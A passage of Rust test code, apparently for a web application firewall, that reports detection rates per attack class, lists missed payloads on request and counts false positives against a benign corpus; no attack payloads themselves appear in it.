                rate(own) % 100,
                rate(any) / 100,
                rate(any) % 100,
            ));
            if class == Sqli {
                // For information: the payloads as attack tools send them, after a value.
                let appended = lines
                    .iter()
                    .filter(|l| inspect_value(only(Sqli), format!("1{l}").as_bytes()).is_some())
                    .count();
                report.push_str(&format!(
                    "{:>16}  {appended}/{} when appended to the value 1\n",
                    "",
                    lines.len()
                ));
            }
            if std::env::var_os("FIREWALL_MISSES").is_some() {
                for l in lines
                    .iter()
                    .filter(|l| !inspect_attack(only(class), class, l))
                {
                    report.push_str(&format!("    missed: {l}\n"));
                }
            }
            if rate(own) < floor(class) {
                failures.push(format!("{} detection fell below its floor", class.label()));
            }
        }
        let benign: Vec<(&str, &str)> = data_lines(BENIGN)
            .map(|l| l.split_once('\t').unwrap_or_else(|| panic!("no tab: {l}")))
            .collect();
        assert!(benign.len() >= 400, "{} benign lines", benign.len());
        let false_positives: Vec<(ManagedProtection, &str, &str)> = benign
            .iter()
            .filter_map(|&(kind, payload)| {
                inspect_benign(kind, payload).map(|p| (p, kind, payload))
            })
            .collect();
        let fp = false_positives.len();
        report.push_str(&format!(
            "false positives: {fp}/{} ({}.{:02}%)\n",
            benign.len(),
            fp * 10_000 / benign.len() / 100,
            fp * 10_000 / benign.len() % 100,
        ));
        for (p, kind, payload) in &false_positives {
            report.push_str(&format!("    {}: {kind}\t{payload}\n", p.label()));
        }
        eprintln!("{report}");
        if fp > MAX_FALSE_POSITIVES {
            failures.push(format!(
                "{fp} false positives, at most {MAX_FALSE_POSITIVES} allowed"
            ));
        }
        assert!(failures.is_empty(), "{failures:?}");
    }
}
